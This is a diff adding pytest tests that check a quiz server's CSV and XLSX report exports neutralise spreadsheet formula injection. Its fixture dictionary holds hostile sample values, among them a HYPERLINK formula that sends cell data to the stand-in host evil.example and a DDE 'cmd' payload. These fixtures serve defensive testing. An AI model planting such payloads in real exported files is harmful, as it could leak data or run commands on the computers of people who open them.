@@ -173,3 +173,61 @@ def test_csv_of_each_sheet_matches_the_workbook(app, client):
     for sheet in ("agencies", "members", "questions"):
         assert client.get(f"/admin/contests/{contest_id}/report/{sheet}.csv").status_code == 200
     assert client.get(f"/admin/contests/{contest_id}/report/nope.csv").status_code == 404
+
+
+INJECTIONS = {
+    "member": "=1+2",
+    "branch": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
+    "code": "-2+3",
+    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "stem": "+1+1 礼让行人",
+}
+
+
+def poisoned(app) -> int:
+    """The seeded contest with member-, organizer- and bank-typed text that looks like formulas."""
+    from quiz_server.models import Participant
+
+    with app.app_context():
+        contest = seed_results(db.session)
+        db.session.query(Participant).filter_by(name="甲一").one().name = INJECTIONS["member"]
+        branch = db.session.query(Unit).filter_by(code="B1").one()
+        branch.name, branch.code = INJECTIONS["branch"], INJECTIONS["code"]
+        contest.title = INJECTIONS["title"]
+        contest.questions[0].question.stem = INJECTIONS["stem"]
+        db.session.commit()
+        return contest.id
+
+
+def test_no_exported_cell_is_a_formula_and_text_is_kept(app, client):
+    contest_id = poisoned(app)
+    with app.app_context():
+        login(client, make_user(db.session).id)
+        db.session.commit()
+    response = client.get(f"/admin/contests/{contest_id}/report.xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(response.data))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells}
+    assert set(INJECTIONS.values()) <= texts  # every character kept, as text
+
+
+def test_csv_fields_that_start_like_a_formula_get_an_apostrophe(app, client):
+    contest_id = poisoned(app)
+    with app.app_context():
+        login(client, make_user(db.session).id)
+        db.session.commit()
+    fields = []
+    for sheet in ("branches", "agencies", "members", "questions", "about"):
+        response = client.get(f"/admin/contests/{contest_id}/report/{sheet}.csv")
+        fields += [
+            f for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for f in row
+        ]
+    assert [f for f in fields if f[:1] in ("=", "+", "-", "@")] == []
+    assert {"'" + text for text in INJECTIONS.values()} <= set(fields)
+
+
+def test_control_characters_in_a_name_do_not_break_the_workbook(app):
+    sheet = reports.Sheet("t", "名单", [reports.Column("姓名")], [["张\x07三"], ["=1+2"]])
+    book = openpyxl.load_workbook(io.BytesIO(reports.workbook_bytes([sheet])))
+    assert [c.value for c in book["名单"]["A"]] == ["姓名", "张三", "=1+2"]
